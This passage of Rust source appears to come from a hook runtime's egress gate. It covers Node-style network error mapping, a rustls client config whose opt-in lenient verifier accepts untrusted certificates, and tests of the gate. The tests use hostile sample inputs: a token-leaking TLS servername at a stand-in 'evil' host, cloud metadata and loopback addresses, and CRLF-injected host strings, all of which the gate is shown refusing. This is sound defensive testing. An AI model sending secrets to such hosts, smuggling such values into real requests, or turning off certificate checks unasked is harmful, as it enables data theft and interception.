            std::io::ErrorKind::ConnectionRefused => ("ECONNREFUSED", -111),
            std::io::ErrorKind::HostUnreachable => ("EHOSTUNREACH", -113),
            std::io::ErrorKind::NetworkUnreachable => ("ENETUNREACH", -101),
            std::io::ErrorKind::TimedOut => ("ETIMEDOUT", -110),
            _ => {
                let text = e.to_string().to_ascii_lowercase();
                if text.contains("lookup") || text.contains("name or service") {
                    let code = if text.contains("temporary") {
                        "EAI_AGAIN"
                    } else {
                        "ENOTFOUND"
                    };
                    return Failure {
                        code,
                        message: format!("getaddrinfo {code} {}", self.named),
                        errno: Some(if code == "EAI_AGAIN" { -3001 } else { -3008 }),
                        syscall: Some("getaddrinfo"),
                        peer: Some(self.named.clone()),
                        detail: Some(e.to_string()),
                        ..Failure::default()
                    };
                }
                ("ECONNREFUSED", -111)
            }
        };
        Failure {
            code,
            message: format!("connect {code} {}:{}", self.named, self.port),
            errno: Some(errno),
            syscall: Some("connect"),
            peer: Some(self.named.clone()),
            port: Some(self.port),
            detail: Some(e.to_string()),
        }
    }
}

fn io_failure(e: &std::io::Error, syscall: &'static str) -> Failure {
    let (code, errno) = match e.kind() {
        std::io::ErrorKind::BrokenPipe => ("EPIPE", -32),
        std::io::ErrorKind::ConnectionAborted => ("ECONNABORTED", -103),
        _ => ("ECONNRESET", -104),
    };
    Failure {
        code,
        message: format!("{syscall} {code}"),
        errno: Some(errno),
        syscall: Some(syscall),
        detail: Some(e.to_string()),
        ..Failure::default()
    }
}

fn addresses(peer: Option<SocketAddr>, local: Option<SocketAddr>) -> serde_json::Value {
    let family = |a: &SocketAddr| if a.is_ipv4() { "IPv4" } else { "IPv6" };
    serde_json::json!({
        "remoteAddress": peer.map(|a| a.ip().to_string()),
        "remotePort": peer.map(|a| a.port()),
        "remoteFamily": peer.as_ref().map(family),
        "localAddress": local.map(|a| a.ip().to_string()),
        "localPort": local.map(|a| a.port()),
        "localFamily": local.as_ref().map(family),
    })
}

/// Records why a certificate was not trusted, for a connection that asked not to reject it
/// (`rejectUnauthorized: false`): Node then connects, with `authorized` false and the reason.
#[derive(Debug, Default)]
struct Recorder(Mutex<Option<String>>);

#[derive(Debug)]
struct Lenient {
    inner: Arc<dyn ServerCertVerifier>,
    recorder: Arc<Recorder>,
}

impl ServerCertVerifier for Lenient {
    fn verify_server_cert(
        &self,
        end_entity: &CertificateDer<'_>,
        intermediates: &[CertificateDer<'_>],
        server_name: &ServerName<'_>,
        ocsp_response: &[u8],
        now: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        if let Err(e) = self.inner.verify_server_cert(
            end_entity,
            intermediates,
            server_name,
            ocsp_response,
            now,
        ) {
            let detail = format!("invalid peer certificate: {e:?}");
            let code = super::egress::tls_failure(&detail, "")
                .map(|(code, _)| code.to_owned())
                .unwrap_or(detail);
            *self.recorder.0.lock().unwrap_or_else(|e| e.into_inner()) = Some(code);
        }
        Ok(ServerCertVerified::assertion())
    }
    fn verify_tls12_signature(
        &self,
        message: &[u8],
        cert: &CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        self.inner.verify_tls12_signature(message, cert, dss)
    }
    fn verify_tls13_signature(
        &self,
        message: &[u8],
        cert: &CertificateDer<'_>,
        dss: &rustls::DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        self.inner.verify_tls13_signature(message, cert, dss)
    }
    fn supported_verify_schemes(&self) -> Vec<rustls::SignatureScheme> {
        self.inner.supported_verify_schemes()
    }
}

fn provider() -> Arc<rustls::crypto::CryptoProvider> {
    Arc::new(rustls::crypto::aws_lc_rs::default_provider())
}

fn tls_setup_failure(e: impl std::fmt::Display) -> Failure {
    Failure {
        code: "ERR_HOOKGATE_TLS",
        message: format!("cannot set up TLS: {e}"),
        ..Failure::default()
    }
}

/// The platform's verifier (as the https client's), built once.
fn platform_verifier() -> Result<Arc<dyn ServerCertVerifier>, Failure> {
    static VERIFIER: OnceLock<Result<Arc<dyn ServerCertVerifier>, String>> = OnceLock::new();
    VERIFIER
        .get_or_init(|| {
            rustls_platform_verifier::Verifier::new(provider())
                .map(|v| Arc::new(v) as Arc<dyn ServerCertVerifier>)
                .map_err(|e| e.to_string())
        })
        .clone()
        .map_err(tls_setup_failure)
}

/// The client configuration for `opts`: the platform's roots (or `ca`'s), and, with
/// `rejectUnauthorized: false`, a verifier that records instead of refusing.
fn client_config(
    opts: &TlsOptions,
) -> Result<(Arc<rustls::ClientConfig>, Option<Arc<Recorder>>), Failure> {
    let mut verifier = if opts.ca.is_empty() {
        platform_verifier()?
    } else {
        let mut roots = rustls::RootCertStore::empty();
        for text in &opts.ca {
            for p in pem::parse_many(text).map_err(tls_setup_failure)? {
                if p.tag() == "CERTIFICATE" {
                    roots
                        .add(CertificateDer::from(p.contents().to_vec()))
                        .map_err(tls_setup_failure)?;
                }
            }
        }
        rustls::client::WebPkiServerVerifier::builder_with_provider(Arc::new(roots), provider())
            .build()
            .map_err(tls_setup_failure)? as Arc<dyn ServerCertVerifier>
    };
    let recorder = (!opts.reject_unauthorized).then(|| Arc::new(Recorder::default()));
    if let Some(r) = &recorder {
        verifier = Arc::new(Lenient {
            inner: verifier,
            recorder: r.clone(),
        });
    }
    let mut config = rustls::ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .map_err(tls_setup_failure)?
        .dangerous()
        .with_custom_certificate_verifier(verifier)
        .with_no_client_auth();
    config.alpn_protocols = opts
        .alpn_protocols
        .iter()
        .map(|p| p.as_bytes().to_vec())
        .collect();
    Ok((Arc::new(config), recorder))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn redirected_names_get_addresses_of_their_own_in_the_benchmarking_range() {
        let names = ["smtp.example.test".to_owned(), "redis.internal".to_owned()];
        let slots = synthetic_slots(names.iter());
        let more =
            synthetic_slots(["a.example".to_owned(), names[0].clone(), names[1].clone()].iter());
        assert_eq!(
            &more[1..],
            &slots[..],
            "a name added does not move the others"
        );
        for i in [0usize, 1, 254, 255, 300, 70_000, SLOTS - 1] {
            let ip = synthetic_ip(i);
            assert!(
                ip.octets()[0] == 198 && (ip.octets()[1] & 0xfe) == 18,
                "{ip}"
            );
            assert_eq!(synthetic_index(&IpAddr::V4(ip)), Some(i), "{ip}");
        }
        assert_eq!(synthetic_index(&"198.20.0.1".parse().unwrap()), None);
        assert_eq!(synthetic_index(&"127.0.0.1".parse().unwrap()), None);
    }

    fn runtime() -> tokio::runtime::Runtime {
        tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .unwrap()
    }

    fn egress(rt: &tokio::runtime::Runtime, toml: &str) -> Egress {
        let cfg: crate::config::EgressConfig = toml::from_str(toml).unwrap();
        Egress::new(&cfg, rt.handle().clone()).unwrap()
    }

    fn caller(slots: usize, timeout: Duration) -> Caller<'static> {
        Caller {
            hook: "test",
            seq: 1,
            id: 1,
            slots: Arc::new(Semaphore::new(slots)),
            timeout,
        }
    }

    fn answer(rx: &crossbeam_channel::Receiver<Event>) -> Result<Vec<(String, u8)>, Failure> {
        match rx
            .recv_timeout(Duration::from_secs(20))
            .expect("an answer")
            .kind
        {
            Kind::Resolved(r) => r,
            _ => panic!("not a lookup's answer"),
        }
    }

    #[test]
    fn a_lookup_fails_at_once_with_eai_again_when_the_process_has_all_its_lookups_waiting() {
        let rt = runtime();
        let egress = egress(&rt, "");
        let permits = egress.lookup_permits().unwrap();
        let _held: Vec<_> = (0..MAX_LOOKUPS)
            .map(|_| permits.clone().try_acquire_owned().unwrap())
            .collect();
        let (tx, rx) = crossbeam_channel::unbounded();
        let caller = caller(4, Duration::from_secs(20));
        let _h = lookup(&egress, caller, "localhost".into(), Query::Lookup(0), tx);
        let f = answer(&rx).expect_err("refused while the resolver is busy");
        assert_eq!((f.code, f.syscall), ("EAI_AGAIN", Some("getaddrinfo")));
    }

    #[test]
    fn a_lookup_takes_one_of_its_calls_outbound_slots_and_waits_for_one() {
        let rt = runtime();
        let egress = egress(&rt, "");
        let (tx, rx) = crossbeam_channel::unbounded();
        // No slot free: the lookup waits for one until the call's deadline.
        let caller = caller(0, Duration::from_millis(200));
        let _h = lookup(&egress, caller, "localhost".into(), Query::Lookup(0), tx);
        let f = answer(&rx).expect_err("no slot, no lookup");
        assert_eq!(f.code, "ETIMEOUT");
    }

    #[test]
    fn writes_to_a_peer_that_does_not_read_fail_with_enobufs_past_the_queue_cap() {
        let rt = runtime();
        let egress = egress(&rt, "");
        // A peer that accepts and never reads.
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let keep = std::thread::spawn(move || {
            let conn = listener.accept();
            std::thread::sleep(Duration::from_secs(10));
            drop(conn);
        });
        let (tx, rx) = crossbeam_channel::unbounded();
        let caller = caller(4, Duration::from_secs(20));
        let h = connect(&egress, caller, "127.0.0.1".into(), port, None, tx);
        assert!(matches!(
            rx.recv_timeout(Duration::from_secs(10)).unwrap().kind,
            Kind::Connected(_)
        ));
        // 64 MiB at once: far more than the kernel buffers take.
        for i in 0..64 {
            h.send(Op::Write(i, vec![b'x'; 1 << 20]));
        }
        let failure = loop {
            match rx
                .recv_timeout(Duration::from_secs(10))
                .expect("an event")
                .kind
            {
                Kind::Failed(f) => break f,
                Kind::Closed => panic!("closed without an error"),
                _ => {}
            }
        };
        assert_eq!(failure.code, "ENOBUFS");
        assert!(h.queued.load(Ordering::Acquire) <= MAX_QUEUED_BYTES + (1 << 20));
        drop(h);
        drop(keep);
    }

    #[test]
    fn a_lookup_answer_of_loopback_link_local_or_unspecified_is_refused_unless_listed_exactly() {
        let rt = runtime();
        let wild = egress(&rt, "allow_hosts = [\"*.example.com\"]");
        for ip in [
            "127.0.0.1",
            "127.1.2.3",
            "169.254.169.254",
            "0.0.0.0",
            "::1",
            "::",
            "fe80::1",
            "::ffff:127.0.0.1",
        ] {
            let ip: IpAddr = ip.parse().unwrap();
            assert!(!admitted(&wild, "evil.example.com", &ip), "{ip}");
        }
        for ip in ["10.0.0.1", "93.184.216.34", "2001:db8::1"] {
            assert!(
                admitted(&wild, "evil.example.com", &ip.parse().unwrap()),
                "{ip}"
            );
        }
        let listed = egress(
            &rt,
            "allow_hosts = [\"*.example.com\", \"169.254.169.254\", \"db.example.com\"]",
        );
        assert!(admitted(
            &listed,
            "meta.example.com",
            &"169.254.169.254".parse().unwrap()
        ));
        assert!(admitted(
            &listed,
            "db.example.com",
            &"127.0.0.1".parse().unwrap()
        ));
        assert!(!admitted(
            &listed,
            "evil.example.com",
            &"127.0.0.1".parse().unwrap()
        ));
        let open = egress(&rt, "");
        assert!(admitted(&open, "anything", &"127.0.0.1".parse().unwrap()));
    }

    #[test]
    fn an_address_a_lookup_returned_opens_to_the_hook_that_looked_it_up_only() {
        let rt = runtime();
        let egress = egress(&rt, "allow_hosts = [\"localhost\"]");
        let (tx, rx) = crossbeam_channel::unbounded();
        let mut c = caller(4, Duration::from_secs(20));
        c.hook = "a";
        let _h = lookup(&egress, c, "localhost".into(), Query::Lookup(4), tx);
        let addrs = answer(&rx).expect("localhost resolves");
        let ip = addrs[0].0.clone();
        assert!(egress.socket_target("a", &ip, 6379).is_ok(), "{ip}");
        let other = egress
            .socket_target("b", &ip, 6379)
            .expect_err("another hook");
        assert_eq!(other.code, "ERR_HOOKGATE_EGRESS");
    }

    #[test]
    fn a_tls_servername_outside_allow_hosts_is_refused_before_it_is_sent() {
        let rt = runtime();
        let egress = egress(&rt, "allow_hosts = [\"127.0.0.1\"]");
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            let conn = listener.accept();
            std::thread::sleep(Duration::from_secs(5));
            drop(conn);
        });
        let (tx, rx) = crossbeam_channel::unbounded();
        let tls = TlsOptions {
            servername: Some("secret-token.evil.example".into()),
            ..TlsOptions::default()
        };
        let c = caller(4, Duration::from_secs(3));
        let _h = connect(&egress, c, "127.0.0.1".into(), port, Some(tls), tx);
        let failure = loop {
            match rx
                .recv_timeout(Duration::from_secs(10))
                .expect("an event")
                .kind
            {
                Kind::Failed(f) => break f,
                Kind::Closed => panic!("closed without an error"),
                _ => {}
            }
        };
        assert_eq!(failure.code, "ERR_HOOKGATE_EGRESS", "{}", failure.message);
    }

    #[test]
    fn a_host_that_is_not_a_name_fails_with_enotfound_and_its_control_characters_escaped() {
        for ok in [
            "redis.internal",
            "smtp-1.example.com",
            "redis_1",
            "127.0.0.1",
            "[::1]",
            "::1",
        ] {
            assert!(valid_host(ok), "{ok}");
        }
        let long = "a".repeat(254);
        for bad in [
            "",
            "a\nb",
            "x\r\nINJECTED line",
            "a b",
            "a/b",
            "é.example",
            long.as_str(),
        ] {
            assert!(!valid_host(bad), "{bad:?}");
        }
        let rt = runtime();
        let egress = egress(&rt, "");
        let (tx, rx) = crossbeam_channel::unbounded();
        let c = caller(4, Duration::from_secs(5));
        let _h = lookup(
            &egress,
            c,
            "x\nhookgate forged line".into(),
            Query::Lookup(0),
            tx.clone(),
        );
        let f = answer(&rx).expect_err("not a name");
        assert_eq!(f.code, "ENOTFOUND");
        assert!(!f.message.contains('\n'), "{:?}", f.message);
        let c = caller(4, Duration::from_secs(5));
        let _s = connect(&egress, c, "x\nforged".into(), 25, None, tx);
        match rx.recv_timeout(Duration::from_secs(10)).unwrap().kind {
            Kind::Failed(f) => assert!(f.code == "ENOTFOUND" && !f.message.contains('\n')),
            _ => panic!("not refused"),
        }
    }
}
